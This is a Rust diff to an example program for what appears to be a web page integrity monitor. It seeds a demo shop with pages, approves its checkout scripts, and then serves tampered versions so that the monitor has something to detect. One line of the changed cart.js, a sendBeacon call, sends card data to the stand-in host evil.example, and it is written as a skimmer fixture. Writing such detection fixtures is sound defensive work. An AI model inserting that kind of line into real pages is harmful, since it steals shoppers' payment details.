@@ -21,7 +21,12 @@ mod fake;
 #[allow(dead_code, reason = "the example uses a part of what tests do")]
 #[path = "../tests/it/harness.rs"]
 mod harness;
+#[allow(dead_code, reason = "the example uses a part of what tests do")]
+#[path = "../tests/it/sights.rs"]
+mod sights;
 
+use gabion_markup::PageClass;
+use gabion_pages::decision::Approval;
 use harness::Harness;
 
 const SIGNED_IN: EventKind = EventKind::new("staff.signed_in", 1, Severity::Info);
@@ -48,6 +53,8 @@ async fn main() {
     harness.limit_to_one_request();
     tokio::spawn(hurry(Arc::clone(&harness)));
 
+    fill_inventory(&harness).await;
+
     let router = harness.router.clone().layer(from_fn(as_owner));
     let listener = TcpListener::bind(&address).await.unwrap();
     println!("http://{address}/");
@@ -72,6 +79,37 @@ async fn answer(State(count): State<Arc<AtomicU64>>) -> Response {
         11 | 60 | 80 => (StatusCode::SEE_OTHER, [("location", "/cart")]).into_response(),
         _ => "tea".into_response(),
     }
+}
+
+/// Pages of the shop: a checkout that somebody approved, other pages nobody looked at, and a skimmer.
+async fn fill_inventory(harness: &Harness) {
+    let tags = "<script src=\"https://www.googletagmanager.com/gtm.js\"></script>\
+        <script src=\"https://cdn.jsdelivr.net/npm/slider@2/slider.min.js\"></script>\
+        <img src=\"https://www.facebook.com/tr\"><link rel=stylesheet href=\"https://fonts.googleapis.com/css\">\
+        <iframe src=\"https://www.youtube-nocookie.com/embed/tea\"></iframe>";
+    let login = "<script src=\"/static/cart.js\"></script><form action=\"/login\"><input type=password name=p>\
+        <input type=email autocomplete=email></form><script src=\"https://js.hcaptcha.com/1/api.js\"></script>";
+    harness.serve(PageClass::Other, "/", tags).await;
+    harness.serve(PageClass::SignIn, "/login", login).await;
+    harness.checkout().await;
+    let site = sights::SITE.parse().unwrap();
+    let by = gabion_core::Actor::Staff("stf_00000000000000000000000001".into());
+    let rule = |path: &str, class| gabion_markup::class::ClassRule { path: path.parse().unwrap(), class };
+    let rules = vec![rule("/checkout", PageClass::Payment), rule("/login", PageClass::SignIn)];
+    harness.pages.set_classes(&site, rules, by.clone()).await.unwrap();
+    let approval = Approval {
+        justification: Some("Part of our checkout".into()),
+        owner: Some("Mara".into()),
+        with_destinations: true,
+        with_headers: true,
+        ..Approval::default()
+    };
+    harness.pages.approve_class(&site, PageClass::Payment, approval, by).await.unwrap();
+    harness.clock.advance(Duration::from_secs(3_600));
+    let tampered = format!("{}{}", sights::CHECKOUT, sights::SKIMMER);
+    harness.serve(PageClass::Payment, "/checkout", &tampered).await;
+    let changed = "cart.show();\nnavigator.sendBeacon('https://evil.example/c', card.value);";
+    harness.serve_script("https://shop.example/static/cart.js", changed).await;
 }
 
 /// Clients above a limit, some more than others.
